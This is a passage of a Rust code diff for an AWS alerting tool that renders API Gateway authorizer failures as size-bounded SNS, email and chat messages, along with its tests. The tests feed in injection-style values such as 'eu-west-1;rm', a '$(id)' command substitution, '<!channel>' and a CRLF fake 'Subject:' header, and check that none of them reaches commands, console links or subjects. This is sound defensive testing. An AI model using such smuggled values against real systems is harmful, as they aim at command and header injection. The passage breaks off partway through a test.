@@ -15,21 +15,37 @@ use crate::cause::{Cause, Place, Remedy, remedy};
 use crate::config::is_api_id;
 use crate::config::{Config, Language};
 use crate::detect::Finding;
-use crate::diagnose::Diagnosis;
-use crate::escape::{ascii, chat_code, chat_text, truncate, visible};
+use crate::diagnose::{AuthorizerReport, Check, Diagnosis};
+use crate::escape::{ascii, chat_block, chat_code, chat_text, json_safe, truncate, visible};
 use crate::flood::{Quiet, Suppressed};
+use crate::shape;
 
-/// SNS refuses larger messages (256 KiB, counted in bytes).
+/// SNS refuses larger messages (256 KiB, counted in bytes, message attributes included).
 pub const MAX_MESSAGE_BYTES: usize = 256 * 1024;
-/// SNS refuses longer subjects.
-pub const MAX_SUBJECT_CHARS: usize = 100;
+/// SNS wants a subject of fewer than 100 characters.
+pub const MAX_SUBJECT_CHARS: usize = 99;
+/// Message attribute values are for filter policies, not for reading: a log group name (at most
+/// 512 characters in CloudWatch Logs) fits whole, anything longer is cut.
+pub const MAX_ATTRIBUTE_BYTES: usize = 512;
+/// A command longer than any that AWS identifiers can make is not shown; a cut command would be a
+/// different command.
+const MAX_COMMAND_BYTES: usize = 2048;
+/// The label as shown: `ALERT_LABEL` allows 40 characters, other paths are cut here.
+const MAX_LABEL_BYTES: usize = 40;
+/// A subject keeps at least this much of its label before the cause words are shortened.
+const MIN_SUBJECT_LABEL: usize = 8;
 
 /// Bounds on what one alert carries from the log, lowered step by step when the message is too big.
-#[derive(Clone, Copy, Debug)]
+/// Every field from the log or the event is bounded by one of them, so the floor bounds the whole
+/// message whatever the input holds.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
 struct Limits {
     samples: usize,
     errors: usize,
     routes: usize,
+    /// API ids, stages, diagnosed authorizers and their checks, request ids flood control kept;
+    /// 0 leaves the diagnosis out.
+    items: usize,
     text_bytes: usize,
 }
 
@@ -37,8 +53,44 @@ const START_LIMITS: Limits = Limits {
     samples: usize::MAX,
     errors: 10,
     routes: 20,
+    items: 10,
     text_bytes: 2000,
 };
+
+/// Where halving stops.
+const FLOOR_LIMITS: Limits = Limits {
+    samples: 0,
+    errors: 1,
+    routes: 1,
+    items: 1,
+    text_bytes: 64,
+};
+
+/// The last resort: what the alert is about, with a few bytes of each text.
+const BARE_LIMITS: Limits = Limits {
+    samples: 0,
+    errors: 1,
+    routes: 0,
+    items: 0,
+    text_bytes: 16,
+};
+
+impl Limits {
+    /// Half of each bound, never below the floor.
+    fn halved(self, samples_held: usize) -> Self {
+        Limits {
+            samples: samples_held.min(self.samples) / 2,
+            errors: (self.errors / 2).max(FLOOR_LIMITS.errors),
+            routes: (self.routes / 2).max(FLOOR_LIMITS.routes),
+            items: (self.items / 2).max(FLOOR_LIMITS.items),
+            text_bytes: (self.text_bytes / 2).max(FLOOR_LIMITS.text_bytes),
+        }
+    }
+
+    fn cut<'s>(&self, s: &'s str) -> std::borrow::Cow<'s, str> {
+        truncate(s, self.text_bytes)
+    }
+}
 
 /// The findings of one invocation that share a log group and a cause.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize)]
@@ -131,8 +183,12 @@ pub fn group(findings: &[Finding], max_samples: usize) -> Vec<Group> {
         if let Some(stage) = f.stage() {
             push_distinct(&mut g.stages, stage, 10);
         }
-        if g.account_id.is_none() {
-            g.account_id = f.account_id().map(str::to_owned);
+        // A hostile `$context.accountId` does not hide a real one later in the batch.
+        if !g.account_id.as_deref().is_some_and(shape::is_account_id)
+            && let Some(account) = f.account_id()
+            && (g.account_id.is_none() || shape::is_account_id(account))
+        {
+            g.account_id = Some(truncate(account, START_LIMITS.text_bytes).into_owned());
         }
     }
     groups.sort_by(|(a, _, _), (b, _, _)| (a.cause, &a.log_group).cmp(&(b.cause, &b.log_group)));
@@ -162,6 +218,14 @@ pub struct Attributes {
 }
 
 impl Attributes {
+    /// Bytes SNS counts for the attributes: names, types and values.
+    pub fn bytes(&self) -> usize {
+        self.pairs()
+            .iter()
+            .map(|(k, v)| k.len() + "String".len() + v.len())
+            .sum()
+    }
+
     pub fn pairs(&self) -> [(&'static str, &str); 3] {
         [
             ("cause", &self.cause),
@@ -196,6 +260,16 @@ impl Alert {
         })
         .to_string()
     }
+
+    /// Everything SNS counts against its message size limit: the message, its subject and its
+    /// message attributes.
+    pub fn publish_bytes(&self) -> usize {
+        self.message().len() + self.subject.len() + self.attributes.bytes()
+    }
+
+    fn fits(&self) -> bool {
+        self.publish_bytes() < MAX_MESSAGE_BYTES
+    }
 }
 
 /// Renders one alert per group.
@@ -203,29 +277,44 @@ pub fn render_all(groups: &[Group], config: &Config) -> Vec<Alert> {
     groups.iter().map(|g| render(g, config)).collect()
 }
 
-/// Renders a group, trimming what came from the log until the message fits SNS's limit.
+/// Renders a group, trimming what came from the log until the message fits SNS's limit: samples
+/// are dropped and texts shortened, never JSON cut.
 pub fn render(group: &Group, config: &Config) -> Alert {
     let mut limits = START_LIMITS;
     loop {
         let alert = render_with(group, config, limits);
-        if alert.message().len() <= MAX_MESSAGE_BYTES || limits.text_bytes <= 64 {
+        if alert.fits() {
             return alert;
         }
-        limits = Limits {
-            samples: (group.sample_request_ids.len().min(limits.samples)) / 2,
-            errors: (limits.errors / 2).max(1),
-            routes: (limits.routes / 2).max(1),
-            text_bytes: limits.text_bytes / 2,
-        };
+        if limits == FLOOR_LIMITS {
+            break;
+        }
+        limits = limits.halved(group.sample_request_ids.len());
     }
+    // At the floor every text is 64 bytes and every list one item long, which no escaping can
+    // blow up to 256 KiB; the bare form is there so the bound does not rest on that arithmetic.
+    let alert = render_with(group, config, BARE_LIMITS);
+    debug_assert!(alert.fits(), "{} bytes", alert.publish_bytes());
+    alert
 }
 
+/// What one rendering shows: every field from the log or the event, within [`Limits`].
 struct View<'a> {
     group: &'a Group,
+    label: Option<String>,
+    region: Option<String>,
+    log_group: Option<String>,
+    first_seen: Option<String>,
+    last_seen: Option<String>,
+    account_id: Option<String>,
+    api_ids: Vec<String>,
+    stages: Vec<String>,
     samples: Vec<String>,
     errors: Vec<String>,
     routes: Vec<String>,
     omitted_samples: usize,
+    diagnosis: Option<Diagnosis>,
+    suppressed_before: Option<Suppressed>,
     remedy: Remedy,
     console_url: Option<String>,
 }
@@ -234,9 +323,11 @@ fn render_with(group: &Group, config: &Config, limits: Limits) -> Alert {
     let cut = |list: &[String], n: usize| -> Vec<String> {
         list.iter()
             .take(n)
-            .map(|s| truncate(s, limits.text_bytes).into_owned())
+            .map(|s| limits.cut(s).into_owned())
             .collect()
     };
+    let cut_one = |s: &Option<String>| s.as_deref().map(|s| limits.cut(s).into_owned());
+    // The remedy checks each value's shape itself; an oversized one has none.
     let place = Place {
         region: config.region.clone(),
         account_id: group.account_id.clone(),
@@ -245,39 +336,143 @@ fn render_with(group: &Group, config: &Config, limits: Limits) -> Alert {
     let samples = cut(&group.sample_request_ids, limits.samples);
     let view = View {
         group,
+        label: label(config),
+        region: cut_one(&config.region),
+        log_group: cut_one(&group.log_group),
+        first_seen: cut_one(&group.first_seen),
+        last_seen: cut_one(&group.last_seen),
+        account_id: cut_one(&group.account_id),
+        api_ids: cut(&group.api_ids, limits.items),
+        stages: cut(&group.stages, limits.items),
         omitted_samples: group.sample_request_ids.len() - samples.len(),
         samples,
         errors: cut(&group.errors, limits.errors),
         routes: cut(&group.routes, limits.routes),
+        diagnosis: group
+            .diagnosis
+            .as_ref()
+            .filter(|_| limits.items > 0)
+            .map(|d| trim_diagnosis(d, limits)),
+        suppressed_before: group
+            .suppressed_before
+            .as_ref()
+            .map(|p| trim_suppressed(p, limits.items, limits.text_bytes)),
         remedy: remedy(group.cause, &place, config.language),
         console_url: console_url(config.region.as_deref(), group.log_group.as_deref()),
     };
-    let subject = subject(group, config.label.as_deref());
+    let subject = subject(group, view.label.as_deref());
     let email = email_text(&view, config.language);
     Alert {
         attributes: Attributes {
             cause: group.cause.code().to_owned(),
-            log_group: ascii(group.log_group.as_deref().unwrap_or("unknown")),
+            log_group: attribute(group.log_group.as_deref().unwrap_or("unknown")),
             severity: group.cause.severity().to_owned(),
         },
-        machine: machine_json(&view, config, &subject, &email).to_string(),
+        machine: json_safe(&machine_json(&view, &subject, &email).to_string()).into_owned(),
         email,
         chat: chat_json(&view, config, &subject).to_string(),
         subject,
     }
 }
 
+/// The configured label as subjects and bodies show it: printable ASCII, bounded.
+fn label(config: &Config) -> Option<String> {
+    let label = ascii(config.label.as_deref()?.trim());
+    (!label.is_empty()).then(|| truncate(&label, MAX_LABEL_BYTES).into_owned())
+}
+
+/// A message attribute value: printable ASCII, bounded.
+fn attribute(s: &str) -> String {
+    truncate(&ascii(s), MAX_ATTRIBUTE_BYTES).into_owned()
+}
+
+/// A copy of the diagnosis within the limits. Commands are kept whole or left out: they are built
+/// from checked identifiers only, so one longer than any of those can make is not ours.
+fn trim_diagnosis(d: &Diagnosis, limits: Limits) -> Diagnosis {
+    let cut = |s: &str| limits.cut(s).into_owned();
+    match d {
+        Diagnosis::Unavailable { reason } => Diagnosis::Unavailable {
+            reason: cut(reason),
+        },
+        Diagnosis::Checked {
+            api_id,
+            authorizers,
+        } => Diagnosis::Checked {
+            api_id: cut(api_id),
+            authorizers: authorizers
+                .iter()
+                .take(limits.items)
+                .map(|a| AuthorizerReport {
+                    authorizer_id: cut(&a.authorizer_id),
+                    name: cut(&a.name),
+                    routes: a
+                        .routes
+                        .iter()
+                        .take(limits.routes)
+                        .map(|r| cut(r))
+                        .collect(),
+                    function_arn: a.function_arn.as_deref().map(cut),
+                    credentials_arn: a.credentials_arn.as_deref().map(cut),
+                    simple_responses: a.simple_responses,
+                    payload_format_version: cut(&a.payload_format_version),
+                    checks: a
+                        .checks
+                        .iter()
+                        .take(limits.items.max(2))
+                        .map(|c| Check {
+                            ok: c.ok,
+                            summary: cut(&c.summary),
+                            command: c.command.clone().filter(|cmd| is_shown_command(cmd)),
+                        })
+                        .collect(),
+                })
+                .collect(),
+        },
+    }
+}
+
+/// Whether a command may be shown: one that [`shape::is_plain_command`] accepts, of a length AWS
+/// identifiers can make.
+fn is_shown_command(cmd: &str) -> bool {
+    cmd.len() <= MAX_COMMAND_BYTES && shape::is_plain_command(cmd)
+}
+
+/// A copy of what flood control held back, with at most `items` request ids of `text_bytes`.
+fn trim_suppressed(p: &Suppressed, items: usize, text_bytes: usize) -> Suppressed {
+    Suppressed {
+        sample_request_ids: p
+            .sample_request_ids
+            .iter()
+            .take(items)
+            .map(|id| truncate(id, text_bytes).into_owned())
+            .collect(),
+        ..p.clone()
+    }
+}
+
 /// The note that a problem is over: its window closed and nothing came for a whole window.
+///
+/// The window's scope and request ids came from logs; they are bounded here, so the note stays
+/// far below SNS's limit whatever they hold.
 pub fn render_recovered(q: &Quiet, config: &Config) -> Alert {
     let lang = config.language;
     let w = words(lang);
-    let mut subject = String::new();
-    if let Some(label) = config.label.as_deref() {
-        subject.push_str(&format!("[{}] ", ascii(label)));
-    }
-    subject.push_str("API authorizer recovered: ");
-    subject.push_str(q.cause.subject_words());
-    subject.truncate(MAX_SUBJECT_CHARS);
+    let label = label(config);
+    let subject = fit_subject(
+        label.as_deref(),
+        "API authorizer recovered: ",
+        q.cause.subject_words(),
+        "",
+    );
+    let full_scope = truncate(&q.scope, MAX_ATTRIBUTE_BYTES);
+    let suppressed = trim_suppressed(&q.suppressed, START_LIMITS.items, 256);
+    let q = &Quiet {
+        key: String::new(),
+        scope: full_scope.into_owned(),
+        cause: q.cause,
+        last_seen: q.last_seen,
+        suppressed,
+    };
     let scope = match q.scope.split_once(':') {
         Some(("api", api)) => format!("{} {api}", w.api),
         Some((_, group)) => format!("{} {group}", w.log_group),
@@ -305,14 +500,14 @@ pub fn render_recovered(q: &Quiet, config: &Config) -> Alert {
     let chat = json!({
         "version": "1.0",
         "source": "custom",
-        "id": format!("{}:{}", q.cause.code(), ascii(&q.scope)),
+        "id": format!("{}:{}", q.cause.code(), attribute(&q.scope)),
         "content": {
             "textType": "client-markdown",
             "title": format!(":white_check_mark: {}", chat_text(&subject)),
             "description": chat_text(&text),
         },
         "metadata": {
-            "threadId": format!("{}:{}", q.cause.code(), ascii(&q.scope)),
+            "threadId": format!("{}:{}", q.cause.code(), attribute(&q.scope)),
             "summary": subject,
             "eventType": "AuthorizerConfigurationRecovered",
         },
@@ -320,7 +515,7 @@ pub fn render_recovered(q: &Quiet, config: &Config) -> Alert {
     let machine = json!({
         "type": "authorizer_configuration_recovered",
         "subject": subject,
-        "label": config.label,
+        "label": label,
         "cause": q.cause,
         "scope": q.scope,
         "last_seen": last_seen,
@@ -330,34 +525,61 @@ pub fn render_recovered(q: &Quiet, config: &Config) -> Alert {
     Alert {
         attributes: Attributes {
             cause: q.cause.code().to_owned(),
-            log_group: ascii(q.scope.split_once(':').map_or(q.scope.as_str(), |(_, v)| v)),
+            log_group: attribute(q.scope.split_once(':').map_or(q.scope.as_str(), |(_, v)| v)),
             severity: "info".to_owned(),
         },
-        machine: machine.to_string(),
+        machine: json_safe(&machine.to_string()).into_owned(),
         email: text,
         chat: chat.to_string(),
         subject,
     }
 }
 
-/// `[label] API authorizer misconfigured: missing invoke permission (12x)`, at most 100 ASCII chars.
+/// `[label] API authorizer misconfigured: missing invoke permission (12x)`: printable ASCII, fewer
+/// than 100 characters, and always ending with the count, which is what a reader needs most.
 pub fn subject(group: &Group, label: Option<&str>) -> String {
-    let mut s = String::new();
-    if let Some(label) = label {
-        s.push_str(&format!("[{}] ", ascii(label)));
+    fit_subject(
+        label,
+        "API authorizer misconfigured: ",
+        group.cause.subject_words(),
+        &format!(" ({}x)", group.count),
+    )
+}
+
+/// `[label] ` + `lead` + `words` + `tail` within [`MAX_SUBJECT_CHARS`]: the tail is kept whole, the
+/// label is shortened first (down to [`MIN_SUBJECT_LABEL`]), then the lead and words, then the
+/// rest of the label. Any label is made printable ASCII; one that is empty then is left out.
+fn fit_subject(label: Option<&str>, lead: &str, words: &str, tail: &str) -> String {
+    let tail = ascii(tail);
+    let body = ascii(&format!("{lead}{words}"));
+    let label = label.map(|l| ascii(l.trim())).unwrap_or_default();
+    let label = label.trim();
+    // Room for the label's text once the brackets and the space are counted.
+    let room = MAX_SUBJECT_CHARS.saturating_sub(body.len() + tail.len() + 3);
+    let label_len = label
+        .len()
+        .min(room.max(MIN_SUBJECT_LABEL))
+        .min(MAX_SUBJECT_CHARS.saturating_sub(tail.len() + 3));
+    let mut s = String::with_capacity(MAX_SUBJECT_CHARS);
+    let shown = label[..label_len].trim_end();
+    if !shown.is_empty() {
+        s.push('[');
+        s.push_str(shown);
+        s.push_str("] ");
     }
-    s.push_str("API authorizer misconfigured: ");
-    s.push_str(group.cause.subject_words());
-    s.push_str(&format!(" ({}x)", group.count));
-    if s.len() > MAX_SUBJECT_CHARS {
-        s.truncate(MAX_SUBJECT_CHARS);
-    }
+    let body_room = MAX_SUBJECT_CHARS.saturating_sub(s.len() + tail.len());
+    s.push_str(body[..body.len().min(body_room)].trim_end());
+    s.push_str(&tail);
+    s.truncate(MAX_SUBJECT_CHARS);
     s
 }
 
-/// A CloudWatch console link to the log group (the console encodes `%` as `$25`).
+/// A CloudWatch console link to the log group (the console encodes `%` as `$25`). Every byte but
+/// `[A-Za-z0-9._-]` of the group is percent-encoded; a region without its shape, or a group longer
+/// than CloudWatch Logs allows (512), gives no link.
 pub fn console_url(region: Option<&str>, log_group: Option<&str>) -> Option<String> {
-    let (region, group) = (region?, log_group?);
+    let region = region.filter(|r| shape::is_region(r))?;
+    let group = log_group.filter(|g| (1..=512).contains(&g.len()))?;
     let mut encoded = String::new();
     for b in group.bytes() {
         if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.') {
@@ -372,30 +594,35 @@ pub fn console_url(region: Option<&str>, log_group: Option<&str>) -> Option<Stri
 }
 
 /// The group for programs, with the rendered text so a consumer can forward it as it is.
-fn machine_json(view: &View, config: &Config, subject: &str, text: &str) -> serde_json::Value {
+///
+/// Log text stays as the log had it (bounded like the rest): programs match on it, and the
+/// caller writes every character that could fake structure as a JSON `\uXXXX` escape
+/// ([`json_safe`]), so a parser gets the exact text and a person reading the raw message sees
+/// nothing raw.
+fn machine_json(view: &View, subject: &str, text: &str) -> serde_json::Value {
     let g = view.group;
     json!({
         "type": "authorizer_configuration_error",
         "subject": subject,
-        "label": config.label,
+        "label": view.label,
         "cause": g.cause,
         "severity": g.cause.severity(),
         "title": g.cause.title(Language::En),
         "count": g.count,
-        "first_seen": g.first_seen,
-        "last_seen": g.last_seen,
-        "log_group": g.log_group,
-        "account_id": g.account_id,
-        "region": config.region,
-        "api_ids": g.api_ids,
-        "stages": g.stages,
+        "first_seen": view.first_seen,
+        "last_seen": view.last_seen,
+        "log_group": view.log_group,
+        "account_id": view.account_id,
+        "region": view.region,
+        "api_ids": view.api_ids,
+        "stages": view.stages,
         "routes": view.routes,
         "errors": view.errors,
         "sample_request_ids": view.samples,
         "omitted_request_ids": view.omitted_samples,
         "remedy": view.remedy,
-        "diagnosis": g.diagnosis,
-        "suppressed_before": g.suppressed_before,
+        "diagnosis": view.diagnosis,
+        "suppressed_before": view.suppressed_before,
         "console_url": view.console_url,
         "text": text,
     })
@@ -465,8 +692,8 @@ fn words(lang: Language) -> &'static Words {
     }
 }
 
-fn when(g: &Group) -> String {
-    match (&g.first_seen, &g.last_seen) {
+fn when(view: &View) -> String {
+    match (&view.first_seen, &view.last_seen) {
         (Some(a), Some(b)) if a != b => format!("{} - {}", visible(a), visible(b)),
         (Some(a), _) => visible(a).into_owned(),
         _ => "-".to_owned(),
@@ -487,22 +714,26 @@ fn email_text(view: &View, lang: Language) -> String {
         w.count,
         &format!("{} {}", g.count, w.requests_failed),
     );
-    line(&mut t, w.when, &when(g));
-    if let Some(p) = &g.suppressed_before {
+    line(&mut t, w.when, &when(view));
+    if let Some(p) = &view.suppressed_before {
         line(&mut t, w.since_last, &suppressed_text(p, w));
     }
     line(
         &mut t,
         w.log_group,
-        &visible(g.log_group.as_deref().unwrap_or("-")),
+        &visible(view.log_group.as_deref().unwrap_or("-")),
     );
-    if !g.api_ids.is_empty() {
-        let stages = if g.stages.is_empty() {
+    if !view.api_ids.is_empty() {
+        let stages = if view.stages.is_empty() {
             String::new()
         } else {
-            format!(" ({})", visible(&g.stages.join(", ")))
+            format!(" ({})", visible(&view.stages.join(", ")))
         };
-        line(&mut t, w.api, &format!("{}{stages}", g.api_ids.join(", ")));
+        line(
+            &mut t,
+            w.api,
+            &format!("{}{stages}", visible(&view.api_ids.join(", "))),
+        );
     }
     if !view.routes.is_empty() {
         line(&mut t, w.routes, &visible(&view.routes.join(", ")));
@@ -521,7 +752,7 @@ fn email_text(view: &View, lang: Language) -> String {
             visible(if e.is_empty() { "-" } else { e })
         ));
     }
-    if let Some(d) = &g.diagnosis {
+    if let Some(d) = &view.diagnosis {
         t.push('\n');
         t.push_str(&diagnosis_text(d));
     }
@@ -555,13 +786,17 @@ fn suppressed_text(p: &Suppressed, w: &Words) -> String {
 /// The exact commands the diagnosis found, else the remedy's template.
 fn commands<'v>(view: &'v View) -> Vec<&'v str> {
     let exact = view
-        .group
         .diagnosis
         .as_ref()
         .map(Diagnosis::commands)
         .unwrap_or_default();
     if exact.is_empty() {
-        view.remedy.command.as_deref().into_iter().collect()
+        view.remedy
+            .command
+            .as_deref()
+            .filter(|cmd| is_shown_command(cmd))
+            .into_iter()
+            .collect()
     } else {
         exact
     }
@@ -577,13 +812,14 @@ pub fn diagnosis_text(d: &Diagnosis) -> String {
             api_id,
             authorizers,
         } if authorizers.is_empty() => format!(
-            "Diagnosis (API {api_id}, live configuration): no route of the API uses a Lambda authorizer.\n"
+            "Diagnosis (API {}, live configuration): no route of the API uses a Lambda authorizer.\n",
+            visible(api_id)
         ),
         Diagnosis::Checked {
             api_id,
             authorizers,
         } => {
-            let mut t = format!("Diagnosis (API {api_id}, live configuration):\n");
+            let mut t = format!("Diagnosis (API {}, live configuration):\n", visible(api_id));
             for a in authorizers {
                 t.push_str(&format!(
                     "  route {} -> authorizer {} ({}) -> function {}\n",
@@ -605,7 +841,10 @@ pub fn diagnosis_text(d: &Diagnosis) -> String {
 fn diagnosis_chat(d: &Diagnosis) -> String {
     match d {
         Diagnosis::Unavailable { reason } => {
-            format!("• *Diagnosis unavailable:* {}\n", chat_text(reason))
+            format!(
+                "• *Diagnosis unavailable:* {}\n",
+                chat_text(&visible(reason))
+            )
         }
         Diagnosis::Checked {
             api_id,
@@ -622,7 +861,7 @@ fn diagnosis_chat(d: &Diagnosis) -> String {
                 ));
                 for c in &a.checks {
                     let mark = if c.ok { ":white_check_mark:" } else { ":x:" };
-                    t.push_str(&format!("    {mark} {}\n", chat_text(&c.summary)));
+                    t.push_str(&format!("    {mark} {}\n", chat_text(&visible(&c.summary))));
                 }
             }
             t
@@ -641,22 +880,22 @@ fn chat_json(view: &View, config: &Config, subject: &str) -> serde_json::Value {
         g.cause.explanation(lang)
     ));
     d.push_str(&format!("• *{}:* {}\n", w.count, g.count));
-    d.push_str(&format!("• *{}:* {}\n", w.when, chat_code(&when(g))));
-    if let Some(p) = &g.suppressed_before {
+    d.push_str(&format!("• *{}:* {}\n", w.when, chat_code(&when(view))));
+    if let Some(p) = &view.suppressed_before {
         d.push_str(&format!(
             "• *{}:* {}\n",
             w.since_last,
             chat_text(&suppressed_text(p, w))
         ));
     }
-    if let Some(lg) = &g.log_group {
+    if let Some(lg) = &view.log_group {
         d.push_str(&format!("• *{}:* {}\n", w.log_group, chat_code(lg)));
     }
-    if !g.api_ids.is_empty() {
+    if !view.api_ids.is_empty() {
         d.push_str(&format!(
             "• *{}:* {}\n",
             w.api,
-            chat_code(&g.api_ids.join(", "))
+            chat_code(&view.api_ids.join(", "))
         ));
     }
     if !view.routes.is_empty() {
@@ -679,17 +918,22 @@ fn chat_json(view: &View, config: &Config, subject: &str) -> serde_json::Value {
     if let Some(url) = &view.console_url {
         d.push_str(&format!("<{url}|{}>\n", w.console));
     }
-    if let Some(diag) = &g.diagnosis {
+    if let Some(diag) = &view.diagnosis {
         d.push_str(&diagnosis_chat(diag));
     }
     let mut next_steps: Vec<String> = view.remedy.steps.iter().map(|s| chat_text(s)).collect();
     for cmd in commands(view) {
-        next_steps.push(format!("{}: ```{}```", w.command, chat_text(cmd)));
+        next_steps.push(format!("{}: {}", w.command, chat_block(cmd)));
     }
+    let thread = format!(
+        "{}:{}",
+        g.cause.code(),
+        view.log_group.as_deref().map(attribute).unwrap_or_default()
+    );
     json!({
         "version": "1.0",
         "source": "custom",
-        "id": format!("{}:{}", g.cause.code(), g.log_group.as_deref().map(ascii).unwrap_or_default()),
+        "id": thread,
         "content": {
             "textType": "client-markdown",
             "title": format!(":rotating_light: {}", chat_text(subject)),
@@ -697,13 +941,13 @@ fn chat_json(view: &View, config: &Config, subject: &str) -> serde_json::Value {
             "nextSteps": next_steps,
         },
         "metadata": {
-            "threadId": format!("{}:{}", g.cause.code(), g.log_group.as_deref().map(ascii).unwrap_or_default()),
+            "threadId": thread,
             "summary": subject,
             "eventType": "AuthorizerConfigurationError",
             "additionalContext": {
                 "cause": g.cause.code(),
                 "count": g.count.to_string(),
-                "log_group": g.log_group.as_deref().map(ascii).unwrap_or_default(),
+                "log_group": view.log_group.as_deref().map(attribute).unwrap_or_default(),
             },
         },
     })
@@ -827,15 +1071,135 @@ mod tests {
         assert!(alert.email.contains("タイムアウト"));
     }
 
+    /// SNS's subject rules, and the count at the end.
+    fn assert_subject(s: &str, count: Option<usize>) {
+        assert!(s.len() < 100, "{} chars: {s}", s.len());
+        assert!(s.bytes().all(|b| (0x20..0x7f).contains(&b)), "{s:?}");
+        assert!(s.starts_with(['[', 'A']), "{s}");
+        if let Some(n) = count {
+            assert!(s.ends_with(&format!(" ({n}x)")), "{s}");
+        }
+    }
+
     #[test]
-    fn subject_stays_within_sns_rules() {
-        let mut g = group(&[finding(Cause::Unknown, "/g", "r", 1)], 5).remove(0);
-        g.count = usize::MAX;
-        let s = subject(&g, Some(&"L".repeat(40)));
-        assert!(
-            s.len() <= MAX_SUBJECT_CHARS && s.is_ascii() && !s.contains('\n'),
-            "{s}"
-        );
+    fn subject_keeps_the_count_and_shortens_the_label_first() {
+        let max_label = "L".repeat(40);
+        let long_label = "prod-eu-west-1-orders-service-blue-green-canary-".repeat(3);
+        let cases: [(Option<&str>, usize, &str); 9] = [
+            (
+                None,
+                2,
+                "API authorizer misconfigured: missing invoke permission (2x)",
+            ),
+            (
+                Some("prod"),
+                2,
+                "[prod] API authorizer misconfigured: missing invoke permission (2x)",
+            ),
+            (
+                Some(&max_label),
+                2,
+                "[LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (2x)",
+            ),
+            (
+                Some(&max_label),
+                usize::MAX,
+                "[LLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
+            ),
+            (
+                Some(&long_label),
+                123,
+                "[prod-eu-west-1-orders-service-blue] API authorizer misconfigured: missing invoke permission (123x)",
+            ),
+            (
+                Some(" \u{2028}é\n "),
+                1,
+                "[?] API authorizer misconfigured: missing invoke permission (1x)",
+            ),
+            (
+                Some("   "),
+                1,
+                "API authorizer misconfigured: missing invoke permission (1x)",
+            ),
+            (
+                Some("a]\r\nSubject: fake"),
+                1,
+                "[a]??Subject: fake] API authorizer misconfigured: missing invoke permission (1x)",
+            ),
+            (
+                Some(""),
+                usize::MAX,
+                "API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
+            ),
+        ];
+        let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
+        for (label, count, want) in cases {
+            g.count = count;
+            let s = subject(&g, label);
+            assert_eq!(s, want, "{label:?}");
+            assert_subject(&s, Some(count));
+        }
+        // Every cause, the largest label a label can be, the largest count.
+        for cause in Cause::ALL {
+            g.cause = cause;
+            g.count = usize::MAX;
+            for label in [None, Some(max_label.as_str()), Some(long_label.as_str())] {
+                let s = subject(&g, label);
+                assert_subject(&s, Some(usize::MAX));
+                assert!(s.contains(cause.subject_words()), "{s}");
+            }
+        }
+    }
+
+    #[test]
+    fn the_words_give_way_only_to_the_count() {
+        let s = fit_subject(Some("prod"), &"w".repeat(150), "", " (7x)");
+        assert_subject(&s, Some(7));
+        assert!(s.starts_with("[prod] www"), "{s}");
+        let s = fit_subject(Some(&"L".repeat(200)), &"w".repeat(150), "", " (7x)");
+        assert!(s.starts_with("[LLLLLLLL] www"), "{s}");
+        assert_subject(&s, Some(7));
+    }
+
+    #[test]
+    fn recovered_subject_within_sns_rules() {
+        for label in [
+            None,
+            Some("prod".to_owned()),
+            Some("L".repeat(40)),
+            Some("x\u{2028}".repeat(100)),
+        ] {
+            for cause in Cause::ALL {
+                let q = quiet(cause, "log:/g", &[]);
+                let cfg = Config {
+                    label: label.clone(),
+                    ..config()
+                };
+                let alert = render_recovered(&q, &cfg);
+                assert_subject(&alert.subject, None);
+                assert!(
+                    alert.subject.ends_with(cause.subject_words()),
+                    "{}",
+                    alert.subject
+                );
+            }
+        }
+    }
+
+    fn quiet(cause: Cause, scope: &str, ids: &[String]) -> Quiet {
+        Quiet {
+            key: format!("{scope}#{}", cause.code()),
+            scope: scope.to_owned(),
+            cause,
+            last_seen: 1_700_000_000,
+            suppressed: Suppressed {
+                failed_requests: 5,
+                batches: 2,
+                window_start: 1_700_000_000,
+                last_suppressed: 1_700_000_100,
+                sample_request_ids: ids.to_vec(),
+            },
+        }
     }
 
     #[test]
@@ -892,5 +1256,383 @@ mod tests {
             "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Faws$252Fx$2520y"
         );
         assert_eq!(console_url(None, Some("/g")), None);
+    }
+
+    #[test]
+    fn console_url_needs_a_region_shape_and_a_real_group_length() {
+        let cases = [
+            (Some("eu-west-1;rm"), Some("/g")),
+            (Some("eu-west-1/../evil.example"), Some("/g")),
+            (Some("eu-west-1"), Some("")),
+        ];
+        for (region, group) in cases {
+            assert_eq!(console_url(region, group), None, "{region:?}");
+        }
+        let long = "/g".repeat(300);
+        assert_eq!(console_url(Some("eu-west-1"), Some(&long)), None);
+        let hostile = "/a\u{2028}b<!channel>|x\"'`$(id)";
+        let url = console_url(Some("us-gov-west-1"), Some(hostile)).unwrap();
+        let encoded = url.rsplit_once("log-group/").unwrap().1;
+        assert!(
+            encoded
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"$._-".contains(&b)),
+            "{url}"
+        );
+    }
+
+    /// The commands an alert shows: the email's command section and the chat's code blocks.
+    fn shown_commands(alert: &Alert) -> Vec<String> {
+        let mut out: Vec<String> = alert
+            .email
+            .lines()
+            .skip_while(|l| !l.starts_with("Command:"))
+            .skip(1)
+            .take_while(|l| !l.is_empty())
+            .map(str::to_owned)
+            .collect();
+        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
+        for step in chat["content"]["nextSteps"].as_array().unwrap() {
+            if let Some((_, block)) = step.as_str().unwrap().split_once("```") {
+                out.push(block.to_owned());
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn hostile_account_region_and_api_id_never_reach_a_command() {
+        let base = finding(Cause::MissingInvokePermission, "/g", "r", 1);
+        let good = "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID";
+        let hostile = crate::shape::HOSTILE
+            .iter()
+            .copied()
+            .chain(["abcdefghijklmnopq", "99999999999999999999"]);
+        for bad in hostile {
+            // (field, finding, region, placeholder in the source ARN)
+            let cases = [
+                (
+                    "account id",
+                    with(&base, |t| t.account_id = Some(bad)),
+                    "eu-west-1",
